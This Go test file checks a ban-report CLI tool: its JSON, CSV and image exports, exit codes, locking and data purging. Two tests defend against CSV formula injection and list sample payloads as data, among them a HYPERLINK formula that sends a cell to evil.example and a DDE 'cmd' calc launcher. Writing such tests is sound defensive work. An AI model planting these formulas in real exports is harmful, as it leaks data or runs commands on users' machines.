package cli

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"image/png"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"friendlyfire/acceptance/harness"
	"friendlyfire/app"
	"friendlyfire/bot"
)

func TestMain(m *testing.M) { harness.Main(m, Main) }

func TestRunOnceTellsOfTheSampleAndEnds(t *testing.T) {
	s := harness.Sampled(t)
	for _, want := range []string{"Imported 1,003 bans of 2026-10-23 to 2026-11-22; 14 of friendly countries.", ""} {
		out, stderr, code := s.Run("run", "--once")
		if code != 0 || stderr != "" || !strings.HasPrefix(out, want) || want == "" && out != "" {
			t.Errorf("code %d, stderr %q, printed %q, want %q", code, stderr, out, want)
		}
	}
}

func TestReportJSONHasTheDocumentedShape(t *testing.T) {
	s := harness.Sampled(t)
	for _, kind := range bot.Kinds() {
		out, stderr, code := s.Run("report", "--by", kind, "--json")
		if code != 0 || stderr != "" {
			t.Fatalf("code %d: %s", code, stderr)
		}
		var got struct {
			By    string `json:"by"`
			Since string `json:"since"`
			Total int    `json:"total"`
			Rows  []struct {
				Key       *string `json:"key"`
				Name      *string `json:"name"`
				Bans      int     `json:"bans"`
				Addresses int     `json:"addresses"`
				Friendly  *int    `json:"friendly"`
			} `json:"rows"`
		}
		in := json.NewDecoder(strings.NewReader(out))
		in.DisallowUnknownFields()
		if err := in.Decode(&got); err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		sum, friendly, last := 0, 0, 1<<30
		for _, row := range got.Rows {
			if row.Key == nil || row.Name == nil || row.Friendly == nil || row.Bans > last || row.Addresses > row.Bans || row.Addresses < 1 {
				t.Errorf("%s: bad row %+v", kind, row)
			}
			sum, friendly, last = sum+row.Bans, friendly+*row.Friendly, row.Bans
		}
		if kind == "banned" { // the bans of the sample are over
			if got.Total != 0 || len(got.Rows) != 0 {
				t.Errorf("%s: total %d, rows %+v, want none", kind, got.Total, got.Rows)
			}
			continue
		}
		if got.By != kind || got.Since != "all" || got.Total != 1003 || sum != 1003 || friendly != 14 {
			t.Errorf("%s: by %q since %q total %d, rows sum to %d, %d friendly", kind, got.By, got.Since, got.Total, sum, friendly)
		}
	}
}

func TestReportWithoutBansIsEmptyAndNoError(t *testing.T) {
	s := harness.NewScene(t, harness.TableOnly)
	out, _, code := s.Run("report", "--json", "--since", "24h")
	if want := `{"by":"country","since":"24h","total":0,"rows":[]}`; code != 0 || strings.TrimSpace(out) != want {
		t.Errorf("code %d, %q, want %q", code, out, want)
	}
}

func TestReportDrawsEveryKind(t *testing.T) {
	s := harness.Sampled(t)
	for _, kind := range bot.Kinds() {
		name := filepath.Join(s.Dir, kind+".png")
		if _, stderr, code := s.Run("report", "--by", kind, "--out", name); code != 0 {
			t.Fatalf("code %d: %s", code, stderr)
		}
		f, err := os.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		picture, err := png.Decode(f)
		if err != nil || picture.Bounds().Dx() != 1280 {
			t.Errorf("%s: no picture of 1280 pixels: %v", kind, err)
		}
		if err := f.Close(); err != nil {
			t.Error(err)
		}
	}
}

func TestReportIsSVGWhereTheFileIsNamedSo(t *testing.T) {
	s := harness.Sampled(t)
	for _, kind := range bot.Kinds() {
		name := filepath.Join(s.Dir, kind+".SVG")
		if _, stderr, code := s.Run("report", "--by", kind, "--out", name); code != 0 {
			t.Fatalf("code %d: %s", code, stderr)
		}
		f, err := os.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		for in, n := xml.NewDecoder(f), 0; ; n++ {
			token, err := in.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", kind, err)
			}
			if root, ok := token.(xml.StartElement); n == 0 && (!ok || root.Name.Local != "svg") {
				t.Errorf("%s begins with %v, which is no SVG", kind, token)
			}
		}
		if err := f.Close(); err != nil {
			t.Error(err)
		}
	}
}

func TestReportCSVHasTheDocumentedShape(t *testing.T) {
	s := harness.Sampled(t)
	for _, kind := range bot.Kinds() {
		out, stderr, code := s.Run("report", "--by", kind, "--csv")
		if code != 0 || stderr != "" || !strings.HasPrefix(out, "key,name,bans,addresses,friendly\n") {
			t.Fatalf("%s: code %d, %s: %.80q", kind, code, stderr, out)
		}
		asJSON, _, _ := s.Run("report", "--by", kind, "--json")
		var want bot.Report
		if err := json.Unmarshal([]byte(asJSON), &want); err != nil {
			t.Fatal(err)
		}
		got := []bot.Row{}
		for _, cells := range readCSV(t, out) {
			got = append(got, bot.Row{
				Key: cells[0], Name: cells[1], Bans: integer(t, cells[2]), Addresses: integer(t, cells[3]), Friendly: integer(t, cells[4]),
			})
		}
		if diff := cmp.Diff(want.Rows, got); diff != "" {
			t.Errorf("%s: CSV and JSON differ (-JSON +CSV):\n%s", kind, diff)
		}
	}
}

// readCSV returns the rows under the header.
func readCSV(t *testing.T, text string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows[1:]
}

func integer(t *testing.T, s string) int64 {
	t.Helper()
	n, err := strconv.ParseInt(s, 10, 64)
	if err != nil {
		t.Error(err)
	}
	return n
}

func TestS08ExportsDoNotExecute(t *testing.T) {
	jails := []string{ // as a line of the file can hold them: it knows no quotes
		"=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+2", " =1+3", "'=1+4", "＝1+1", "a;=1+1", "\"=1+5\"", "sshd",
	}
	s := harness.NewScene(t, harness.TableOnly)
	for i, jail := range jails {
		s.Append(harness.BanRow(time.Date(2026, 11, 1, 0, i, 0, 0, time.UTC), fmt.Sprintf("198.51.100.%d", i+1), jail, ""))
	}

	out, stderr, code := s.Run("report", "--by", "jail", "--csv")
	if code != 0 {
		t.Fatalf("code %d: %s", code, stderr)
	}
	bans, quoted := int64(0), 0
	for _, cells := range readCSV(t, out) {
		bans += integer(t, cells[2])
		for _, cell := range cells {
			if strings.TrimLeft(cell, "=+-@\t\r\n\x00＝＋－＠") != cell {
				t.Errorf("a spreadsheet would execute %q", cell)
			}
		}
		if strings.HasPrefix(cells[0], "'=") {
			quoted++
		}
	}
	if bans != int64(len(jails)) || quoted < 5 {
		t.Errorf("%d bans of %d, %d formulas quoted:\n%s", bans, len(jails), quoted, out)
	}
}

// A character that no source lets through is defused all the same.
func TestS08EveryCharacterThatStartsAFormulaIsDefused(t *testing.T) {
	for _, start := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"} {
		if got := defuse(start + "1"); got != "'"+start+"1" {
			t.Errorf("%q stays %q", start+"1", got)
		}
	}
	for _, harmless := range []string{"", "sshd", "a=b", "web-1", "2026-11-22", "North Macedonia", "'=1"} {
		if got := defuse(harmless); got != harmless {
			t.Errorf("%q becomes %q", harmless, got)
		}
	}
}

// paper is a picture that says in what form it was asked for.
type paper struct{}

func (paper) PNG() ([]byte, error) { return []byte("PNG"), nil }
func (paper) SVG() ([]byte, error) { return []byte("SVG"), nil }
func (paper) Text(int) string      { return "██ 12\n\n" }

func TestReportIsDrawnInPlaceOnATerminalThatCan(t *testing.T) {
	const text, kitty = "██ 12\n", "\033_Ga=T,f=100,c=78,q=2,m=0;UE5H\033\\\n"
	tests := map[string]struct {
		onTerminal bool
		term, want string
	}{
		"kitty":            {true, "xterm-kitty", kitty},
		"another terminal": {true, "xterm-256color", text},
		"a pipe in kitty":  {false, "xterm-kitty", text},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			var out strings.Builder
			getenv := func(key string) string { return map[string]string{"TERM": tc.term}[key] }
			if err := printChart(&out, paper{}, tc.onTerminal, getenv); err != nil || out.String() != tc.want {
				t.Errorf("%v, wrote %q, want %q", err, out.String(), tc.want)
			}
		})
	}
}

func TestLookupJSONHasTheDocumentedShape(t *testing.T) {
	s := harness.Sampled(t)
	out, stderr, code := s.Run("lookup", "--json", harness.Belgian, "::ffff:192.168.1.1")
	want := `{"ip":"34.38.29.62","country":"BE","table":"BE","whois":"","network":"","name":"","source":"table","bans":1}
{"ip":"192.168.1.1","country":"","table":"","whois":"","network":"","name":"","source":"","bans":0}
`
	if code != 0 || stderr != "" || out != want {
		t.Errorf("code %d, stderr %q, got\n%swant\n%s", code, stderr, out, want)
	}
}

func TestExitCodes(t *testing.T) {
	s := harness.Sampled(t)
	tests := map[string]struct {
		args []string
		code int
		says string
	}{
		"version":         {[]string{"version"}, 0, ""},
		"help":            {[]string{"--help"}, 0, ""},
		"unknown command": {[]string{"dance"}, 2, "dance"},
		"unknown flag":    {[]string{"report", "--colour"}, 2, "--colour"},
		"bad kind":        {[]string{"report", "--by", "planet"}, 2, `--by "planet": want one of country, jail, source, day, hour, strict, banned`},
		"bad period":      {[]string{"report", "--since", "1y"}, 2, `--since "1y": want one of 24h, 7d, 30d, all`},
		"two formats":     {[]string{"report", "--json", "--csv"}, 2, "--json and --csv"},
		"no address":      {[]string{"lookup", "example.org"}, 2, `"example.org" is no address`},
		"nothing to look": {[]string{"lookup"}, 2, "at least 1 arg"},
		"no config":       {[]string{"--config", "/nonexistent/config.toml", "report"}, 78, "/nonexistent/config.toml: cannot be read: no such file or directory"},
		"no directory":    {[]string{"report", "--out", "/nonexistent/report.png"}, 1, "no such file or directory"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			_, stderr, code := s.Run(tc.args...)
			if code != tc.code || !strings.Contains(stderr, tc.says) {
				t.Errorf("code %d, want %d; stderr %q, want %q in it", code, tc.code, stderr, tc.says)
			}
		})
	}
}

func TestVersionNamesTheTableAndItsLicence(t *testing.T) {
	out, _, _ := harness.NewScene(t, harness.TableOnly).Run("version")
	for _, want := range []string{"friendlyfire ", "CC BY 4.0", "nro.net"} {
		if !strings.Contains(out, want) {
			t.Errorf("%q is not in %q", want, out)
		}
	}
}

func TestCheckSaysWhatIsWrong(t *testing.T) {
	s := harness.Sampled(t)
	out, _, code := s.Run("check")
	if code != 0 || !strings.Contains(out, "last ban 2026-11-22 11:16:56 UTC") || !strings.HasSuffix(out, "Everything is in order.\n") {
		t.Errorf("code %d: %s", code, out)
	}
	if err := os.Remove(s.Bans); err != nil {
		t.Fatal(err)
	}
	out, _, code = s.Run("check")
	if code != 1 || !strings.Contains(out, "PROBLEM  source web1: ") || !strings.Contains(out, "no such file") {
		t.Errorf("code %d: %s", code, out)
	}
}

func TestOnlyOneBotDeliversFromADatabase(t *testing.T) {
	s := harness.Sampled(t)
	unlock, err := app.Lock(filepath.Join(s.Dir, "friendlyfire.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer unlock()
	if _, stderr, code := s.Run("run", "--once"); code != 1 || !strings.Contains(stderr, "in use by another friendlyfire") {
		t.Errorf("code %d, %q", code, stderr)
	}
}

func TestPurgeForgetsWhatIsOlderThanTheConfigurationAllows(t *testing.T) {
	s := harness.NewScene(t, harness.TableOnly+"[privacy]\nkeep_days = 30\n")
	old, young := "203.0.113.7", "198.51.100.7"
	s.Append(harness.BanRow(time.Now().AddDate(0, 0, -40), old, "sshd", "Failed password for anna from "+old))
	s.Append(harness.BanRow(time.Now(), young, "sshd", ""))
	if _, stderr, code := s.Run("report"); code != 0 { // reads the file
		t.Fatal(stderr)
	}
	out, stderr, code := s.Run("purge")
	if code != 0 || stderr != "" || !strings.HasSuffix(out, ": bans 1, addresses 1. Their counts stay.\n") {
		t.Errorf("code %d, %q, %q", code, out, stderr)
	}
	for _, name := range []string{"friendlyfire.db", "friendlyfire.db-wal"} {
		data, err := os.ReadFile(filepath.Join(s.Dir, name))
		if err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
		if strings.Contains(string(data), old) {
			t.Errorf("%s still holds %s", name, old)
		}
	}
	out, _, _ = s.Run("report", "--json")
	if !strings.Contains(out, `"total":2,`) {
		t.Errorf("counts have changed: %s", out)
	}
}
